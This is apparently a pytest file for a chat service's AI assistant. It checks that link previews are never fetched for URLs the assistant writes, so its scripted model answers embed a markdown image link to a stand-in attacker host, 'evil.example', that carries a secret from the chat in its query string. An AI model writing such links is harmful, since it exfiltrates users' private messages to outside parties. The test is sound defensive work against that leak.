"""A link that the assistant writes is visited by nobody: its address could carry what a model has read."""

from collections.abc import AsyncIterator

import pytest

from chatbeside.domain.clock import now
from chatbeside.services.events import MessageChanged, Relay
from chatbeside.services.previews import Previews
from tests.assistant.conftest import Chat, MakeChat
from tests.servers.openai_server import OpenAIServer, Script
from tests.servers.web import Web, answer

SECRET = "The door opens with 4711."
LEAK = "![x](https://evil.example/?q=4711)"


@pytest.fixture
async def web() -> AsyncIterator[Web]:
    web = Web()
    web.pages["/"] = answer("<title>Garden</title>")
    await web.start()
    yield web
    await web.stop()


async def visited_by(chat: Chat, web: Web) -> Previews:
    """Return previews that hear of everything in ``chat``, and whose internet is ``web``."""
    services = chat.services
    previews = Previews(
        store=services.store,
        messages=services.messages,
        settings=services.settings.model_copy(update={"link_previews": True}),
        limits=services.limits,
        clock=now,
        fetcher=web.fetcher(),
    )
    assert isinstance(services.publisher, Relay)
    services.publisher.listen(previews)
    await previews.start()
    return previews


async def test_an_answer_sends_nobody_anywhere(make_chat: MakeChat, model: OpenAIServer, web: Web, clock) -> None:
    model.then(
        Script(pieces=(f"Here: {LEAK}",)),
        Script(pieces=(f"[again](https://evil.example/again?q=4711) {LEAK} [1]",)),
        Script(pieces=(f"- It opens: {LEAK} [1]",)),
    )
    chat = await make_chat(model)
    previews = await visited_by(chat, web)
    ann, ben = await chat.people("ann"), await chat.people("ben")
    room = await chat.room(ann, ben)
    secret = await chat.say(ben, room, SECRET)
    first = await chat.answer(ann, room, "@beside what is for lunch?")
    assert "https://evil.example/?q=4711" in first.content
    chat.heard.events.clear()
    await chat.services.assistant.again(ann, first.id)
    await chat.heard.until(lambda e: isinstance(e, MessageChanged))
    await chat.services.assistant.idle()
    digest = await chat.answer(ann, await chat.own(ann), "/catchup 1 hour")
    assert "evil.example" in digest.content
    await chat.edit(secret, content="Never mind.", edited_at=clock())  # strikes what rests on it: one more change
    await previews.idle()
    assert web.visited == []
    hers = await chat.say(ann, room, "https://garden.example/")
    await previews.idle()
    assert [host for _, host in web.visited] == ["garden.example"], "what a person links to is visited"
    for message in (first, digest, hers):
        now = await chat.services.store.messages.get(message.id)
        assert now
        assert ("preview" in now.data) is (message is hers)
    await previews.stop()


async def test_what_it_says_by_itself_sends_nobody_anywhere(make_chat: MakeChat, web: Web, clock) -> None:
    web.pages["/?q=4711"] = answer("<title>Seen</title>")
    chat = await make_chat()
    previews = await visited_by(chat, web)
    ann = await chat.people("ann")
    own = await chat.own(ann)
    await chat.answer(ann, own, "/remind in 5 minutes open evil.example at https://evil.example/?q=4711")
    clock.advance(301)
    service = chat.services.assistant
    await service.reminders.fire(service._remind)
    await previews.idle()
    said = [message for message in await chat.timeline(own) if message.sender_id == chat.beside]
    assert "https://evil.example/?q=4711" in said[-1].content
    assert all("preview" not in message.data for message in said)
    assert len(web.visited) == 1, "her own words only"
    await previews.stop()
